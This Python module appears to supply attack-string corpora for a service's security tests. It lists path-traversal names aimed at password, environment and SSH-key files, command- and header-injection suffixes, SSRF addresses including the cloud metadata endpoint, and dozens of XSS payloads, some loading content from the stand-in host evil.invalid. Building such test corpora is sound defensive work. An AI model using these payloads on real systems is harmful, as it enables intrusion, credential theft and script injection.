"""Texts that attack: file names, addresses, scripts. Corpora of the tests T29, T41 and T43; a bug adds its own here."""

from __future__ import annotations

import itertools

_TARGETS = ("a.jsonl", "etc/passwd", "proc/self/environ", "root/.ssh/id_rsa", "weft.db", "store.json")
_WAYS = (
    "/", "//", "../", "../../../", "../" * 16, "./../", "..//..//", "....//....//", ".../.../", "%2e%2e%2f" * 3,
    "%252e%252e%252f" * 3, "..%2f..%2f", "..%5c..%5c", "..%c0%af..%c0%af", "..%00/../", "..\\..\\", "..\\/..\\/",
    "\\\\host\\share\\", "\\\\?\\C:\\", "C:\\", "C:/", "file:///", "file://localhost/", "~/", "~root/", "$HOME/",
    "${HOME}/", "$(echo /)", "`echo /`", "blobs/../../", "adapters/../", "work/../", "tmp/../../", "\uff0e\uff0e\uff0f",
    "\u2025\u2215", "..;/", "/./", "/proc/self/root/", "/dev/fd/../../", "x/../../../",
)  # fmt: skip
_ENDS = (
    "", ".", "..", "...", " ", "/", "/.", "/..", "\\", "::$DATA", "%00.jsonl", "\0.jsonl", "\n.jsonl", "\r\nX-Evil: y",
    "\t", ";id", "|id", "&id", "&&id", "$(id)", "`id`", ">/tmp/x", "*", "?", "[a-z]", "{a,b}", "~", "#", '"', "'",
    "\u202egnp", "\u200b", "\ufeff", "\ud800", "\U0001f40d", "\x1b[2J", "\x7f", "%s%n%x", "{0.__class__}", "{{7*7}}",
)  # fmt: skip
_WHOLE = (
    "CON", "NUL", "PRN", "AUX", "COM1", "LPT1.txt", "/dev/null", "/dev/zero", "/dev/random", "/dev/stdin", "/dev/tcp/",
    "-rf", "--help", "-", "a" * 255, "a" * 256, "a" * 5000, "é" * 255, "../" * 300, "a/" * 300, ".lock", ".keep",
    ".env", ".git/config", "weft.db-journal", "weft.db-wal", "SECRET", "<script>alert(1)</script>", "';--", "1/0",
    "__init__.py", "sitecustomize.py", "conftest.py", "model.safetensors", "pytorch_model.bin", "config.json",
    "http://127.0.0.1/", "ft:../../x", "ft:weft-nano:local::../../x", "file-../../x", "ftjob-../../x", "upload_../x",
    "file-" + "1" * 24, "0" * 64, "../blobs/" + "0" * 64, "null", "true", "NaN", "-1", "1e999", "[]", "{}",
)  # fmt: skip
NAMES = tuple(
    dict.fromkeys([*(way + target for way in _WAYS for target in _TARGETS), *("train" + end for end in _ENDS), *_WHOLE])
)
"""Names and ids that would be paths, commands, or too much."""

_PRIVATE = (
    "127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}", "0.0.0.0:{port}", "127.1:{port}", "2130706433:{port}",
    "0x7f000001:{port}", "0177.0.0.1:{port}", "127.0.0.1.nip.io:{port}", "[::ffff:127.0.0.1]:{port}", "10.0.0.1",
    "172.16.0.1", "192.168.0.1", "169.254.169.254", "[fe80::1]", "metadata.invalid", "user:pw@127.0.0.1:{port}",
)  # fmt: skip
_SCHEMES = (
    "file:///etc/passwd", "file://127.0.0.1/etc/passwd", "ftp://127.0.0.1:{port}/x", "gopher://127.0.0.1:{port}/_x",
    "dict://127.0.0.1:{port}/x", "ldap://127.0.0.1:{port}/x", "jar:http://127.0.0.1:{port}!/x", "s3://bucket/x",
    "gs://bucket/x", "hf://datasets/x/y", "ws://127.0.0.1:{port}/", "tcp://127.0.0.1:{port}", "//127.0.0.1:{port}/x",
)  # fmt: skip


def urls(port: int) -> tuple[str, ...]:
    """Addresses that no server should ask because a text holds them; `port` is one that a test listens on."""
    web = [f"{scheme}://{host}/x" for host in _PRIVATE for scheme in ("http", "https")]
    more = [f"http://{host}/latest/meta-data/?a=b#c" for host in _PRIVATE]
    return tuple(url.format(port=port) for url in (*web, *more, *_SCHEMES))


_BREAKS = ("", "'\"><", "</title></textarea></script>", "--><!--><", "]]>{{7*7}}${{7*7}}")
_SCRIPTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.invalid/x.js></script>", "<img src=x onerror={}>",
    "<img src=http://evil.invalid/x.png>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe src=javascript:{}></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href=javascript:{}>x</a>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>", "<math><mi//xlink:href='javascript:{}'>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<base href=//evil.invalid/>", "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import'//evil.invalid/x.css'</style>", "<style>*{{background:url(//evil.invalid/x)}}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "<form action=//evil.invalid/><input type=submit>",
    "<button formaction=javascript:{}>x</button>", "<marquee onstart={}>x</marquee>", "<x onclick={}>x",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<img src=`x`onerror={}>", "<img\nsrc\n=\nx\nonerror\n=\n{}\n>", "<img src=x onerror\x00={}>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "javascript:{}",
    "data:text/html,<script>{}</script>",
    "[x](javascript:{})", "![x](http://evil.invalid/x.png)", "<!--<img src='--><img src=x onerror={}>'",
)  # fmt: skip
SCRIPTS = tuple(
    before + script.format("window.hit=1") for before, script in itertools.product(_BREAKS, _SCRIPTS)
)  # fmt: skip
"""Texts that run `window.hit=1` or fetch from evil.invalid where a page takes them for HTML."""
